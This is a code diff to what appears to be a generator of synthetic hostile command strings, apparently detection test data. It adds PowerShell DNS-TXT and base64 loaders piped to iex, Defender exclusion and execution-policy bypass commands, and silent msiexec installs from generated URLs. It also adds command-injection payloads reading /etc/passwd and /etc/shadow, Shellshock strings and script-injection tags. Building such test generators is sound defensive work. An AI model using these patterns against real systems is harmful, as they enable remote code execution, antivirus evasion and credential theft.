@@ -26,7 +26,25 @@ std::string DropUrl(Rng& rng, const char* ending) {
 std::string PowerShell(Rng& rng) {
   const std::string caller =
       rng.Chance(60) ? "powershell " : rng.Pick({"powershell.exe ", "pwsh ", ""});
-  switch (rng.Below(6)) {
+  switch (rng.Below(10)) {
+    case 6:
+      return Concat({rng.Pick({"@", "", "&"}), "$", Stem(rng), "=(nslookup -q=txt \"",
+                     Number(rng, 1, 40), ".", HostName(rng), "\") -match '@(.*)@'",
+                     rng.Pick({"@", ";iex $matches[1]", "|iex", ""})});
+    case 7:
+      return Concat({caller,
+                     rng.Pick({"iex ((nslookup -querytype=TXT ", "& {(Resolve-DnsName -Type TXT "}),
+                     HostName(rng), rng.Pick({") -join '')", ").Strings | iex}"})});
+    case 8:
+      return Concat({"$", Stem(rng), "='", Base64Encode(Sentence(rng, rng.Range(2, 9))),
+                     "';$b=[Convert]::FromBase64String($", Stem(rng),
+                     ");[Text.Encoding]::UTF8.GetString($b)|iex"});
+    case 9:
+      return Concat({caller,
+                     rng.Pick({"Add-MpPreference -ExclusionPath ", "Start-BitsTransfer ",
+                               "Set-ExecutionPolicy Bypass; ", "Expand-Archive "}),
+                     DropUrl(rng, ".zip"), " $env:", rng.Pick({"TEMP", "APPDATA", "PUBLIC"}), "\\",
+                     Stem(rng)});
     case 0:
       return Concat({caller,
                      rng.Pick({"-nop -w hidden -enc ", "-enc ", "-NoP -NonI -W Hidden -Enc ", "-e ",
@@ -54,7 +72,16 @@ Draft PowerShellCommand(Rng& rng) { return {PowerShell(rng), ""}; }
 
 std::string WindowsTool(Rng& rng) {
   const std::string name = Stem(rng);
-  switch (rng.Below(9)) {
+  switch (rng.Below(12)) {
+    case 9:
+      return Concat({"msiexec /q /i ", DropUrl(rng, ".msi")});
+    case 10:
+      return Concat({"for /f \"tokens=*\" %i in ('nslookup -q=txt ", HostName(rng), "') do ",
+                     rng.Pick({"%i", "cmd /c %i", "@echo %i"})});
+    case 11:
+      return Concat({rng.Pick({"cmd", "cmd=", "task="}), rng.Pick({"download", "exec", "update"}),
+                     ";url=", DropUrl(rng, ""), ";path=%", rng.Pick({"APPDATA", "TEMP"}), "%\\",
+                     name, ".dat"});
     case 0:
       return Concat(
           {"certutil -urlcache -split -f ", DropUrl(rng, ".bin"), " %TEMP%\\", name, ".exe"});
@@ -125,7 +152,21 @@ Draft ScriptCommand(Rng& rng) {
 }
 
 Draft ExploitString(Rng& rng) {
-  switch (rng.Below(9)) {
+  switch (rng.Below(12)) {
+    case 9:
+      return {Concat({rng.Pick({"; ", "| ", "&& ", "|| ", "\n"}),
+                      rng.Pick({"cat /etc/passwd", "id", "ping -c 3 ", "wget ", "nslookup ",
+                                "cat /etc/shadow", "uname -a"}),
+                      rng.Chance(40) ? Ipv4(rng) : std::string()}),
+              ""};
+    case 10:
+      return {Concat({"() { :; }; ",
+                      rng.Pick({"/bin/ping -c 3 ", "curl ", "/usr/bin/id ", "echo "}), Ipv4(rng)}),
+              ""};
+    case 11:
+      return {Concat({rng.Pick({"<iframe src='//", "<script src=//", "<object data='http://"}),
+                      HostName(rng), rng.Pick({"'></iframe>", "></script>", "'></object>"})}),
+              ""};
     case 0:
       return {Concat({"${jndi:", rng.Pick({"ldap", "dns", "rmi"}), "://", HostName(rng), "/",
                       Stem(rng), "}"}),
